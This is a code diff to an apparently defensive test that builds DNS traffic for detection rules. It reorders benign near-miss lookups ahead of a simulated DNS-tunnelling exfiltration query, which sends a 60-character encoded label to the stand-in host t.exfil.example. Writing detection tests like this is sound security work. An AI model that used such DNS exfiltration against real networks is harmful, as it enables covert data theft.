@@ -433,13 +433,15 @@ def t_smb1_outside(c):
 
 
 def t_dns_long_label(c):
-    label = "mzxw6ytboi2gk3tfnzsxe5dfmvzgk3twmvzgs3tfnzsxe5dfojsxg5dfn5zq"  # 60 characters
-    q = dns_query(0x1001, label + ".t.exfil.example")
-    udp(c, DESKTOP, 40001, RESOLVER, 53, q, dns_answer(q))
+    # the near misses first: one alert a minute per host (threshold), so a near miss that
+    # matched would take the alert from the query after it
     q = dns_query(0x1002, "d1a2b3c4e5f60718293a4b5c6d7e8f90.cloudfront.example")  # 32
     udp(c, DESKTOP, 40002, RESOLVER, 53, q, dns_answer(q))
     q = dns_query(0x1003, "www.city.example")
     udp(c, DESKTOP, 40003, RESOLVER, 53, q, dns_answer(q))
+    label = "mzxw6ytboi2gk3tfnzsxe5dfmvzgk3twmvzgs3tfnzsxe5dfojsxg5dfn5zq"  # 60 characters
+    q = dns_query(0x1001, label + ".t.exfil.example")
+    udp(c, DESKTOP, 40001, RESOLVER, 53, q, dns_answer(q))
 
 
 def t_dns_rate(c):
